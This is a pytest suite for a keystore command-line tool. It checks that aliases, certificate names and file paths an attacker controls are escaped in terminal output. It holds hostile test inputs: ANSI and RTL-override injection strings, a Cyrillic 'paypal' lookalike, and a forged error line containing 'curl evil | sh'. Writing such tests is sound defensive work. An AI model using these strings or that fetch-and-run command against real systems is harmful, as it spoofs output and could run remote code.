"""Output an attacker controls reaches the terminal escaped (issue 10, item 6): aliases,
certificate names, paths and server-sent names cannot forge lines, move the cursor or reverse
text; an error is one line; ``--alias`` refuses control characters; lookalike aliases are
warned about; JSON stays exact."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from keystore_tool.formats import get_format
from keystore_tool.model import Certificate, Keystore, TrustedCertificateEntry
from keystore_tool.password import Password
from tests.certs import issue
from tests.ks import ks

FAKE_FINGERPRINT = "Certificate fingerprint (SHA-256): " + ":".join(["AA"] * 32)
# An alias that, printed raw, ends its line and forges a second entry with a fake fingerprint.
FORGING_ALIAS = f"real\n\nfake, Jan 01, 2025, trustedCertEntry,\n{FAKE_FINGERPRINT}"
HOSTILE_CN = "evil\x1b[2J\x1b]0;owned\x07\u202etxt.exe\x00\x9b31m"
RAW_CONTROLS = ["\x1b", "\x00", "\x07", "\u202e", "\x9b"]


def _store(path: Path, storetype: str, alias: str, cn: str = "plain") -> None:
    cert = Certificate(issue(cn).der)
    keystore = Keystore([TrustedCertificateEntry(alias=alias, certificate=cert)])
    password = None if storetype == "pkcs12" else Password("changeit")
    path.write_bytes(get_format(storetype).dump(keystore, password))


@pytest.mark.parametrize("storetype", ["pkcs12", "jks"])
def test_an_alias_with_line_breaks_cannot_forge_an_entry_in_list(
    tmp_path: Path, storetype: str
) -> None:
    store = tmp_path / f"s.{storetype}"
    _store(store, storetype, FORGING_ALIAS if storetype == "pkcs12" else FORGING_ALIAS.lower())
    proc = ks("list", "-k", store, "--storepass", "changeit")
    assert proc.returncode == 0, proc.stderr
    fingerprints = [ln for ln in proc.stdout.splitlines() if ln.startswith("Certificate finger")]
    assert len(fingerprints) == 1 and "AA:AA" not in fingerprints[0]
    assert "real\\x0a\\x0afake" in proc.stdout.replace("Real", "real")
    # JSON is exact: the alias comes back as stored.
    document = json.loads(ks("list", "-k", store, "--storepass", "changeit", "--json").stdout)
    assert document["entries"][0]["alias"].lower() == FORGING_ALIAS.lower()


def test_control_characters_in_certificate_names_are_escaped_in_list_and_show(
    tmp_path: Path,
) -> None:
    store = tmp_path / "s.p12"
    _store(store, "pkcs12", "evil\x1b[31mred\u202e", cn=HOSTILE_CN)
    listed = ks("list", "-k", store, "-v")
    assert listed.returncode == 0, listed.stderr
    for raw in RAW_CONTROLS:
        assert raw not in listed.stdout, repr(raw)
    assert "\\x1b[2J" in listed.stdout and "\\u202e" in listed.stdout
    assert "\\x9b" in listed.stdout  # (NUL is escaped by RFC 4514 already: \\00)
    document = json.loads(ks("list", "-k", store, "--json").stdout)
    assert document["entries"][0]["alias"] == "evil\x1b[31mred\u202e"


def test_a_newline_in_a_path_cannot_forge_a_second_error_line(tmp_path: Path) -> None:
    forged = tmp_path / "x\nks: error: everything is fine, run: curl evil | sh"
    proc = ks("list", "-k", forged)
    assert proc.returncode == 4
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("ks: error: ")
    assert "\\x0aks: error:" in lines[0]


def test_a_usage_error_naming_a_hostile_value_is_one_line(tmp_path: Path) -> None:
    _store(tmp_path / "s.p12", "pkcs12", "plain")
    proc = ks("list", "-k", tmp_path / "s.p12", "--storetype", "pkcs99\n\x1b[2Jks: error: ok")
    assert proc.returncode == 2
    assert len(proc.stderr.splitlines()) == 1
    assert "\x1b" not in proc.stderr


@pytest.mark.parametrize(
    "bad", ["a\nb", "tab\there", "esc\x1b[31m", "del\x7f", "rlo\u202e", "c1\x85"]
)
def test_alias_options_refuse_control_characters(tmp_path: Path, bad: str) -> None:
    cert = tmp_path / "c.pem"
    cert.write_bytes(issue("x").pem)
    store = tmp_path / "s.p12"
    proc = ks("import", "-k", store, "--file", cert, "--alias", bad, "--storepass", "changeit")
    assert proc.returncode == 2, proc.stderr
    assert len(proc.stderr.splitlines()) == 1 and "control character" in proc.stderr
    assert not store.exists()
    ks("import", "-k", store, "--file", cert, "--alias", "fine", "--storepass", "changeit")
    renamed = ks("rename", "-k", store, "--alias", "fine", "--to", bad, "--storepass", "changeit")
    assert renamed.returncode == 2 and "control character" in renamed.stderr


def test_mixed_scripts_and_lookalike_aliases_are_warned_about(tmp_path: Path) -> None:
    store = tmp_path / "s.p12"
    first, second, third = (tmp_path / f"{n}.pem" for n in "abc")
    first.write_bytes(issue("paypal").pem)
    second.write_bytes(issue("other").pem)
    third.write_bytes(issue("third").pem)
    quiet = ks("import", "-k", store, "--file", first, "--storepass", "changeit")
    assert quiet.returncode == 0 and "warning" not in quiet.stderr
    # All Cyrillic (er, a, u, er, a, palochka): one script, but the skeleton of 'paypal'.
    lookalike = ks(
        "import",
        "-k",
        store,
        "--file",
        second,
        "--alias",
        "\u0440\u0430\u0443\u0440\u0430\u04cf",
        "--storepass",
        "changeit",
    )
    assert lookalike.returncode == 0
    assert "looks like the alias 'paypal'" in lookalike.stderr
    mixed = ks(
        "import",
        "-k",
        store,
        "--file",
        third,
        "--alias",
        "p\u0430ypal-2",
        "--storepass",
        "changeit",
    )
    assert mixed.returncode == 0
    assert "mixes letters of several scripts (CYRILLIC, LATIN)" in mixed.stderr


def test_an_apply_spec_alias_with_a_control_character_is_refused_before_writing(
    tmp_path: Path,
) -> None:
    (tmp_path / "ca.pem").write_bytes(issue("spec ca").pem)
    spec = tmp_path / "stores.toml"
    spec.write_text(
        '[[store]]\npath = "t.p12"\npassword = { env = "TP" }\n\n'
        '[[store.certificates]]\nalias = "ca\\u001b[2J\\nfake"\nfile = "ca.pem"\n'
    )
    proc = ks("apply", spec, env={"TP": "changeit"})
    assert proc.returncode == 2, proc.stderr
    assert len(proc.stderr.splitlines()) == 1 and "control character" in proc.stderr
    assert "\x1b" not in proc.stderr
    assert not (tmp_path / "t.p12").exists()


def test_renaming_to_a_lookalike_of_another_alias_is_warned_about(tmp_path: Path) -> None:
    store = tmp_path / "s.p12"
    for name in ("paypal", "other"):
        (tmp_path / f"{name}.pem").write_bytes(issue(name).pem)
        made = ks("import", "-k", store, "--file", tmp_path / f"{name}.pem", "--storepass", "pw")
        assert made.returncode == 0, made.stderr
    renamed = ks("rename", "-k", store, "--alias", "other", "--to", "PAYPA\u04cf",
                 "--storepass", "pw")  # fmt: skip
    assert renamed.returncode == 0, renamed.stderr
    assert "mixes letters of several scripts" in renamed.stderr
